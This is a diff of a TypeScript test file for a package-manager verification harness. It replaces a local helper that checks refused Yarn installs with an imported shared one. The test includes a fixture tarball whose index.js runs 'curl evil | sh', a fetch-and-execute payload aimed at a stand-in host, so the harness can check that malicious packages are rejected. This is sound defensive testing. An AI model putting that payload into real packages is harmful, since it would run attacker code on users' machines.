@@ -5,6 +5,7 @@ import { join } from 'node:path';
 import { buildPackageTarball, packumentFile, tarballFile } from '@tufpm/registry';
 import { OVERLAY_APPROVAL_ROLE } from '@tufpm/verify';
 import type { CliResult } from '../src/harness/npm-world.js';
+import { refusedYarn as refused } from '../src/harness/attacks-graph.js';
 import { OverlayWorld } from '../src/harness/overlay-world.js';
 import type { YarnProject } from '../src/harness/yarn.js';
 
@@ -15,17 +16,6 @@ import type { YarnProject } from '../src/harness/yarn.js';
 
 const evilTarball = (name: string, version: string): Uint8Array =>
   buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
-
-async function refused(project: YarnProject, args: string[], code: RegExp, ...also: RegExp[]): Promise<CliResult> {
-  const before = await project.state();
-  const res = await project.yarn(args);
-  assert.equal(res.code, 1, `exit code 1 expected\n${res.stdout}${res.stderr}`);
-  assert.match(res.stdout, code);
-  for (const re of also) assert.match(res.stdout, re);
-  assert.doesNotMatch(res.stdout, /Internal Error|\n\s+at /, 'a coded report, not a crash');
-  assert.deepEqual(await project.state(), before, 'nothing touched');
-  return res;
-}
 
 function ok(res: CliResult, what: string): void {
   assert.equal(res.code, 0, `${what}\n${res.stdout}${res.stderr}`);
